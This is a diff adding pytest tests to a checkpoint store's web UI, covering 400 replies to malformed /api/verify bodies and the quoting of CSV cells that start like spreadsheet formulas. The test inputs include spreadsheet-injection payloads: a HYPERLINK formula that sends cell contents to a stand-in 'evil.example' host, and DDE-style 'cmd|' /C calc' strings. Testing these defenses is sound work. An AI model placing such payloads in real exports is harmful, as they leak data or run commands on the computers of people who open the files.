@@ -3,6 +3,8 @@ incremental reads, and names that must not reach outside LOCATION."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -199,6 +201,21 @@ def test_api_refuses_foreign_host_and_cross_site_verify(local_store: Store, serv
         assert "script-src 'self'" in resp.headers["Content-Security-Policy"]
 
 
+@pytest.mark.parametrize("body", [[1, 2], "checkpoint_000004", 5, True])
+def test_verify_answers_a_body_that_is_not_an_object_with_a_400(local_store: Store,
+                                                                serve: Any, body: Any) -> None:
+    """A JSON list (or string, number) as /api/verify's body raised AttributeError
+    in the server: a 500 with Flask's HTML page and a traceback in its log."""
+    server = serve(local_store.uri)
+    post = urllib.request.Request(server.url + "api/verify", data=json.dumps(body).encode(),
+                                  method="POST", headers={"Content-Type": "application/json",
+                                                          "X-Checkpoint-Store": "verify"})
+    with pytest.raises(urllib.error.HTTPError) as info:
+        urllib.request.urlopen(post)
+    assert info.value.code == 400
+    assert "JSON object" in json.load(info.value)["error"]
+
+
 def test_location_must_hold_trials(local_store: Store) -> None:
     ckpt = os.path.join(local_store.uri, "sweep", "lr-0.1", "checkpoint_000004")
     with pytest.raises(InvalidConfigError, match="checkpoint"):
@@ -369,3 +386,43 @@ def test_a_first_read_inspects_every_directory_and_later_reads_follow(tmp_path: 
     assert kinds["checkpoint_000007"] in ("best", "latest")
     assert later["total_rows"] == 8
     assert [r["val"]["accuracy"] for r in later["rows"]] == [0.05]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path: Any) -> None:
+    """A parameter "=HYPERLINK(...)" (params.json, anyone writing to the store)
+    went into the best-rows CSV as is: a spreadsheet opening the download runs
+    it as a formula. Every text cell starting like a formula is now quoted as
+    text; numbers, negative ones included, stay numbers."""
+    from checkpoint_store.ui._server import create_app
+
+    store = Store(str(tmp_path / "s"))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    report_trial(store, "e", "@t", [0.2, 0.4], [True, True],
+                 {"note": evil, "cmd": "+1+cmd|' /C calc'!A0", "neg": -0.5})
+    client = create_app(StoreView(store.uri)).test_client()
+    for query in ({"experiment": "e"}, {"experiment": "e", "trial": "@t"}):
+        reply = client.get("/api/csv", query_string=query, headers={"Host": "127.0.0.1"})
+        assert reply.status_code == 200
+        rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
+        cells = [c for row in rows for c in row]
+        assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
+    best = list(csv.DictReader(io.StringIO(client.get(
+        "/api/csv", query_string={"experiment": "e"}, headers={"Host": "127.0.0.1"}
+    ).get_data(as_text=True))))[0]
+    assert best["trial"] == "'@t" and best["param/note"] == "'" + evil
+    assert best["param/neg"] == "-0.5"  # a number, unchanged
+
+
+def test_csv_of_a_trials_rows_quotes_a_reported_formula(tmp_path: Any) -> None:
+    """The same for a metric a run reported as text (a tag, a path) in result.json."""
+    from checkpoint_store import session
+    from checkpoint_store.ui._server import create_app
+
+    root = str(tmp_path / "s")
+    with session.start(storage_path=root, experiment_name="e", trial_name="t"):
+        session.report({"loss": 0.5, "tag": "-2+3+cmd|' /C calc'!A0"})
+    client = create_app(StoreView(root)).test_client()
+    reply = client.get("/api/csv", query_string={"experiment": "e", "trial": "t"},
+                       headers={"Host": "127.0.0.1"})
+    (row,) = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True))))
+    assert row["tag"] == "'-2+3+cmd|' /C calc'!A0" and row["loss"] == "0.5"
